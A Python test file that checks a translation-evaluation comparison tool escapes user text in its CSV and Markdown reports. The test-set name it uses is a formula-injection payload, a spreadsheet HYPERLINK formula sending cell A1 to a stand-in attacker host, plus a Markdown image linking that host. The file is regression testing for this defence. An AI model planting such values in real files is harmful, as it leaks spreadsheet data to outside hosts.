"""The comparison's exports (Markdown, HTML, CSV) keep the user's text as text."""

from __future__ import annotations


def test_a_test_set_name_is_text_in_every_report(store, tmp_path):
    # a name starting with "=" ran as a formula when the CSV was opened; in the Markdown it was Markdown
    import csv
    import io

    from engine.compare.comparison import build_comparison
    from engine.compare.report import report_csv, report_markdown
    from tests.engine.compare.helpers import add_evaluation, references

    rows = [{"source": f"Sentence {i}.", "reference": r, "pair": "en-ar"} for i, r in enumerate(references())]
    name = '=HYPERLINK("http://evil.example/?x="&A1,"click") ![x](http://evil.example/i.png)'
    testset = store.evaluations.add_testset(name, "upload", rows)
    keys = [add_evaluation(store, tmp_path, testset, m, references(), decoding_label=m) for m in ("a", "b")]
    comparison = build_comparison(store, keys)
    cells = [c for row in csv.reader(io.StringIO(report_csv(comparison))) for c in row]
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    markdown = report_markdown(comparison, generated_at="now")
    assert "![x](http" not in markdown and r"\!\[x\]\(http" in markdown
